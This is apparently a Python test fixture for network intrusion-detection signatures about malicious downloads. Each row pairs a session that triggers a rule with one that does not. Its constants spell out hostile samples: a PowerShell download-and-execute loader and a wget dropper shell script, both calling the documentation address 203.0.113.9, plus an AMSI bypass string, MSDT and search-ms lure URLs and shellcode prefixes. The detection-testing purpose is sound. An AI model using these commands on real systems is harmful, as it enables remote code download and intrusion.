# SPDX-License-Identifier: BSD-3-Clause
"""Sessions for rules/signatures/download.rules."""
import base64

from .session import Row, get, tcp, wide, windows_program

IP, POWERSHELL = "203.0.113.9", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3570"
OFFICE, INSTALLER = "Mozilla/4.0 (compatible; ms-office; MSOffice 16)", "Windows Installer"
PROGRAM = windows_program()
PACKED = base64.b64encode(PROGRAM)
ELF = b"\x7fELF\x01\x01\x01" + bytes(200)
LINK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(80)
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(80) + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + bytes(20)
LOADER = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
MEMORY = "[Reflection.Assembly]::Load([Convert]::FromBase64String($x))"
AMSI = "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')"
SCRIPTLET = '<?XML version="1.0"?><scriptlet><registration progid="x" classid="y"><script language="JScript">1</script>'
SHEET = '<stylesheet><ms:script implements-prefix="user" language="JScript">new ActiveXObject("WScript.Shell")</ms:script>'
DROPPER = "#!/bin/sh\ncd /tmp; wget http://203.0.113.9/x86; chmod 777 x86; ./x86 a; rm -rf x86\n"
VBS = 's = "ADODB.Stream"\nCreateObject(s).SaveToFile "a.exe"\nCreateObject("WScript.Shell").Run "a.exe"\n'
HIDDEN = "cmd /c powershell.exe -w hidden -enc " + base64.b64encode(wide("Start-Process notepad; exit; exit; exit")).decode()
RTF = r"{\rtf1{\object\objemb{\*\objdata 01050000020000000b0000004571756174696f6e2e3300}}}"
MHTML = '<Relationship Id="rId1" Target="mhtml:http://203.0.113.9/a.html!x-usc:http://203.0.113.9/a.html" TargetMode="External"/>'
MSDT = 'location.href = "ms-msdt:/id PCWDiagnostic /skip force /param \\"IT_RebrowseForFile=? IT_BrowseForFile=x\\""'
ZIP = b"PK\3\4\x14\0\0\0\0\0" + bytes(16) + b"\x16\0\0\0trades.pdf /trades.pdf .cmd"
SEARCH = "location.href = 'search-ms:query=invoice&crumb=location:\\\\203.0.113.9@80\\docs&displayname=Downloads'"
CODE32 = bytes.fromhex("fce8820000006089e531c0648b5030") + bytes(200)
CODE64 = bytes.fromhex("fc4883e4f0e8cc000000415141505251") + bytes(200)
BINARY = "application/octet-stream"


def gets(answer, kind=BINARY, **kw):
    return get("/a", answer, kind=kind, **kw)


ROWS = [
    Row(9002001, get("/a.ps1", host=IP, agent=POWERSHELL),
        [get("/a.ps1", agent=POWERSHELL), get("/a.html", host=IP, agent=POWERSHELL)]),
    Row(9002002, get("/a.txt", agent="CertUtil URL Agent"), get("/root.crl", agent="CertUtil URL Agent")),
    Row(9002003, get("/a.exe", host=IP, agent="Microsoft BITS/7.8"),
        get("/a.exe", host="download.example.com", agent="Microsoft BITS/7.8")),
    Row(9002004, gets("<html><script>1</script>", "application/hta"),
        gets("<html><script>1</script>", "application/html")),
    Row(9002005, get("/a.dotm", host=IP, agent=OFFICE), get("/a.dotx", host=IP, agent=OFFICE)),
    Row(9002006, get("/share/a.lnk", agent="Microsoft-WebDAV-MiniRedir/10.0.19045"),
        get("/share/a.docx", agent="Microsoft-WebDAV-MiniRedir/10.0.19045")),
    Row(9002007, get("/a.msi", host=IP, agent=INSTALLER), get("/a.msi", agent=INSTALLER)),
    Row(9002008, get("/a.sh", host=IP, agent="Wget/1.21"), [get("/a.sh", agent="Wget/1.21"), get("/a.sh", host=IP)]),
    Row(9002009, get("/bins/sora.mips", host=IP, agent="Wget"), get("/bins/readme.txt", host=IP, agent="Wget")),
    Row(9002010, gets(PROGRAM, "text/plain"), gets(b"x" + PROGRAM, "text/plain"), also=[9000001]),
    Row(9002011, gets(ELF, "image/png"), gets(ELF)),
    Row(9002012, gets(PACKED, "text/plain"), gets(b"x" + PACKED, "text/plain")),
    Row(9002013, gets(PACKED[::-1], "text/plain"), gets(PACKED[24:][::-1], "text/plain")),
    Row(9002014, gets(b"\xff\xd8\xff\xe0" + b"<<BASE64_START>>" + PACKED, "image/jpeg"),
        gets("<<BASE64_START>>", "text/plain")),
    Row(9002015, gets(bytes(255 - b for b in PROGRAM)), gets(bytes(254 - b & 255 for b in PROGRAM))),
    Row(9002016, gets(LINK), gets(b"\0" + LINK)),
    Row(9002017, gets(LOADER, "text/plain"),
        [gets(LOADER, "text/html"), gets(LOADER.replace("IEX", "$x ="), "text/plain")]),
    Row(9002018, gets(MEMORY, "text/plain"), gets(MEMORY, "text/html")),
    Row(9002019, gets(AMSI, "text/plain"), gets("amsiInitFailed is a field", "text/plain")),
    Row(9002020, gets(SCRIPTLET, "text/plain"), gets(SCRIPTLET.replace("progid", "prog"), "text/plain")),
    Row(9002021, gets(SHEET, "text/xml"), gets(SHEET.replace("ActiveX", "Active"), "text/xml")),
    Row(9002022, gets(DROPPER, "text/plain"), gets(DROPPER.replace("rm -rf", "ls"), "text/plain")),
    Row(9002023, gets(VBS, "text/plain"), gets(VBS.replace("WScript", "Script"), "text/plain")),
    Row(9002024, gets(HIDDEN, "text/plain"), gets(HIDDEN.replace("-w hidden", "-w normal"), "text/plain")),
    Row(9002025, gets(RTF, "application/msword"), gets(RTF.replace("4571756174", "4571756175"), "application/msword")),
    Row(9002026, gets(MHTML, "text/xml"), gets(MHTML.replace("mhtml:", ""), "text/xml")),
    Row(9002027, gets(MSDT, "text/html"), gets("the scheme ms-msdt: is described here", "text/html")),
    Row(9002028, gets(ONENOTE + b"<job><script language='vbs'>"), gets(ONENOTE + b"\x89PNG" + bytes(60))),
    Row(9002029, gets(ZIP, "application/zip"), gets(ZIP.replace(b".cmd", b".png"), "application/zip")),
    Row(9002030, gets(SEARCH, "text/html"), gets(SEARCH.replace("\\\\203", "C:"), "text/html")),
    Row(9002031, gets(CODE32), gets(b"\x90" + CODE32)),
    Row(9002032, gets(CODE64), gets(b"\x90" + CODE64)),
    Row(9002033, tcp(4444, None, b"\x10\2\0\0" + CODE64), tcp(4444, None, bytes(8) + CODE64)),
]
